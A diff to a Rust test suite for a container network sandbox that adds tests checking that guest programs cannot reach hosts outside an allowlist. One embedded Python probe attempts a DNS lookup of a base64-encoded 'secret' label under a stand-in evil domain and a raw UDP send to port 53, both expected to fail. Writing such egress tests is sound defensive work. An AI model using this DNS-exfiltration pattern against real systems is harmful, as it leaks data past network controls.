@@ -1,5 +1,5 @@
 //! E01 to E24 as a program in a container meets them: what is listed can be reached through the guest's door, and nothing else by
-//! any way. The proxy is the same as behind `native`, and tested where it is.
+//! any way. The proxy is the same as behind `native`, and tested where it is; what a program can say to it is said here, too.
 
 use std::io::{Read, Write};
 use std::net::TcpListener;
@@ -9,6 +9,7 @@ use std::time::{Duration, Instant};
 use ringfence_testkit::canary::{Listener, until};
 
 use crate::origin::{FETCH, Origin};
+use crate::rows;
 use crate::stage::SOON;
 use crate::walls::{Walled, for_each_engine, has_violation};
 
@@ -99,6 +100,32 @@ print('done')
         assert!(origin.asked().is_empty());
         let twin = place.python(FETCH, &[&format!("http://127.0.0.1:{port}/")]);
         assert_eq!(twin.text(), "200 hello\n", "the probe proves nothing: {twin:?}");
+    });
+}
+
+#[test]
+fn e02_to_e24_in_a_container_what_nobody_honest_says_to_the_proxy_reaches_nobody() {
+    let (origin, other) = (Origin::start(), Listener::start().unwrap());
+    let ports = [origin.port.to_string(), other.port().to_string()];
+    for_each_engine(&rows::policy(&origin), |place| {
+        origin.forget();
+        rows::check(&place.python(rows::ROWS, &[&ports[0], &ports[1]]), &origin, &other);
+    });
+}
+
+#[test]
+fn e11_in_a_container_no_name_is_looked_up() {
+    let code = "
+import socket
+for name in ('a.test', 'c2VjcmV0.evil.test'):
+    try: print(name, socket.getaddrinfo(name, 80)[0][4][0])
+    except OSError: print(name, 'none')
+with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
+    try: s.sendto(b'\\0' * 32, ('192.0.2.53', 53)); print('sent')
+    except OSError: print('no way')
+";
+    for_each_engine("net: { mode: allowlist, allow: [a.test] }\n", |place| {
+        assert_eq!(place.python(code, &[]).text(), "a.test none\nc2VjcmV0.evil.test none\nno way\n");
     });
 }
 
